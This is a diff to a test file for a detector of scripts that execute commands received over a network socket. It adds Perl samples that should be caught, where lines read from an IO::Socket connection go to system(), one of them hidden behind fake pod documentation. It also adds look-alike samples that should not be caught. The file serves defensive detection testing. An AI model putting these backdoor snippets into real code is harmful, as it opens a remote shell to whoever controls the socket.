@@ -96,6 +96,17 @@ const HITS: readonly (readonly [ScriptLanguage, (typeof ASKED)[number], string])
     'runs_commands_from_socket',
     'socket(S, PF_INET, SOCK_STREAM, 0);\nconnect(S, $to);\nwhile ($l = <S>) {\n  print S `$l`;\n}',
   ],
+  // A text that only looks like documentation: what follows it is code.
+  [
+    'perl',
+    'runs_commands_from_socket',
+    'my $s = IO::Socket::INET->new("h:7");\nprint <<EOT;\n\n=pod\n\nEOT\nmy $line = <$s>;\nsystem("$line");\n',
+  ],
+  [
+    'perl',
+    'runs_commands_from_socket',
+    'my $s = IO::Socket::INET->new("h:7");\nopen(S2, "<&", $s);\nwhile (<S2>) {\n  system("$_");\n}',
+  ],
 ]
 for (const [language, id, text] of HITS)
   test(`${language}: ${id}: ${text.split('\n')[0]}`, () =>
@@ -140,6 +151,18 @@ const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
   [
     'perl',
     'print "You may need IO::Socket::SSL for that URL.";\nopen(F, $log);\nwhile ($l = <F>) { print `date` . `wc $l` }',
+  ],
+  [
+    'perl',
+    'my $s = IO::Socket::INET->new("h:7");\nmy $line = <$s>;\n__END__\n=head1 NAME\n\nIt reads a line, `$line`, by system("$line").\n',
+  ],
+  [
+    'perl',
+    'my $s = IO::Socket::INET->new("h:7");\nopen(my $f, "<", "/etc/a.conf");\nwhile (my $line = <$f>) {\n  system("$line");\n}',
+  ],
+  [
+    'perl',
+    'my $s = IO::Socket::INET->new("h:7");\nopen3(IN, OUT, ERR, "psql");\nwhile (<OUT>) {\n  print;\n}\nforeach (@checks) {\n  system("$_");\n}',
   ],
 ]
 for (const [language, text] of MISSES)
